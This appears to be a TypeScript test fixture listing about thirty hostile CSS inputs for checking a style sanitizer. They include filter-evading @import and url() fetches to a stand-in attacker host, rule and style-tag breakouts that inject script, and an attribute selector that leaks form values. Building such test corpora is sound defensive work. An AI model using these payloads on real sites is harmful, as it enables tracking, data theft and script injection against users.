import { attacks } from './attack.ts';

const part = '[data-part="card"]';

/** Styles that fetch something, or reach further than they may. */
export const styleAttacks = attacks('style', [
  '@import "https://evil.example/x.css";',
  '@import url(//evil.example/x.css);',
  '@\\69mport "https://evil.example/x.css";',
  '@charset "utf-7"; @import "https://evil.example/x.css";',
  `${part} { background: url(https://evil.example/x.png) }`,
  `${part} { background-image: u\\72l(https://evil.example/x.png) }`,
  `${part} { background: u/**/rl("https://evil.example/x.png") }`,
  `${part} { background: image-set("https://evil.example/x.png" 1x) }`,
  `${part} { background: -webkit-image-set(url(https://evil.example/x.png) 1x) }`,
  `${part} { --x: url(https://evil.example/x.png); background: var(--x) }`,
  `${part} { cursor: url(https://evil.example/x.cur), auto }`,
  `${part} { list-style: url("https://evil.example/x.png"); display: list-item }`,
  `${part}::before { content: url(https://evil.example/x.png) }`,
  `${part} { content: "\\"; } * { background: url(https://evil.example/x.png) } /*" }`,
  `${part} { content: "\n} * { background: url(https://evil.example/x.png) }`,
  `${part} { color: red } } * { background: url(https://evil.example/x.png) }`,
  `${part} { color: red /* } */ ; } */ * { background: url(https://evil.example/x.png) }`,
  `@font-face { font-family: x; src: url(https://evil.example/x.woff) } ${part} { font-family: x }`,
  `@media screen { ${part} { background: url(https://evil.example/x.png) } }`,
  `@supports (color: red) { ${part} { background: url(https://evil.example/x.png) } }`,
  `@namespace url(https://evil.example/); ${part} { color: red }`,
  `@property --x { syntax: "<image>"; inherits: true; initial-value: url(https://evil.example/x.png) }`,
  '@layer theme { :root { background: url(https://evil.example/x.png) } }',
  `input[value^="a"] { background: url(https://evil.example/a) }`,
  `${part} { background: paint(x); -moz-binding: url(//evil.example/x#x); behavior: url(//evil.example/x) }`,
  `${part} { width: expression(alert(1)); filter: url(https://evil.example/x.svg#x) }`,
  `</style><script>alert(1)</script><style>${part} { color: red }`,
  `<!-- ${part} { background: url(https://evil.example/x.png) } -->`,
  `${part} { mask: url(https://evil.example/x.svg#x); clip-path: url(https://evil.example/x.svg#x) }`,
  `${part} { & * { background: url(https://evil.example/x.png) } }`,
  `${part}{background:url(https://evil.example/x.png`,
  `${part} { background: cross-fade(url(https://evil.example/x.png), red) }`,
]);
